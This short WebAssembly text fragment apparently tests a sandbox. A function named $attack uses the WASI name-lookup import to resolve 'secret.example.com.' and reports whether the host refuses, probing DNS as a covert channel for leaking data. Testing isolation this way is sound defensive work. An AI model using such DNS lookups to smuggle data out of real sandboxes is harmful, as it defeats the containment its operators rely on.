;; It asks for the address of a name, in which it could tell somebody something. Returns the error, 20 being the failure by
;; which the host refuses, and 100 if there is none.
(import "wasi:sockets/instance-network@0.2.0" "instance-network" (func $network (result i32)))
(import "wasi:sockets/ip-name-lookup@0.2.0" "resolve-addresses" (func $resolve (param i32 i32 i32 i32)))
(func $attack (result i32)
  (call $resolve (call $network) (i32.const 1024) (i32.const 19) (i32.const 512))
  (if (result i32) (i32.load8_u (i32.const 512))
    (then (call $number (i32.load8_u (i32.const 516))))
    (else (call $number (i32.const 100)))))
(data (i32.const 1024) "secret.example.com.")
